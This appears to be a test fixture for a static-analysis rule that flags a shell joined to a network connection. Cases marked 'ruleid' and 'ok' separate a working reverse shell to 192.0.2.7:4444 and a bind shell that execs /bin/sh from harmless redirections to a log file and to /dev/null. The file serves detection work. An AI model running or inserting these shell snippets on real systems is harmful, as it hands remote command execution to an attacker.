import os
import pty
import socket
import sys

link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("192.0.2.7", 4444))
# ruleid: shell-joined-to-connection
os.dup2(link.fileno(), 0)
os.dup2(link.fileno(), 1)
pty.spawn("sh")


def listen(port):
    listener = socket.socket()
    listener.bind(("127.0.0.1", port))
    peer, address = listener.accept()
    for number in range(3):
        # ruleid: shell-joined-to-connection
        os.dup2(peer.fileno(), number)
    os.execl("/bin/sh", "sh")


def to_log(path):
    log = open(path, "a")
    # ok: shell-joined-to-connection
    os.dup2(log.fileno(), sys.stdout.fileno())


def detach():
    null = open(os.devnull)
    # ok: shell-joined-to-connection
    os.dup2(null.fileno(), 0)
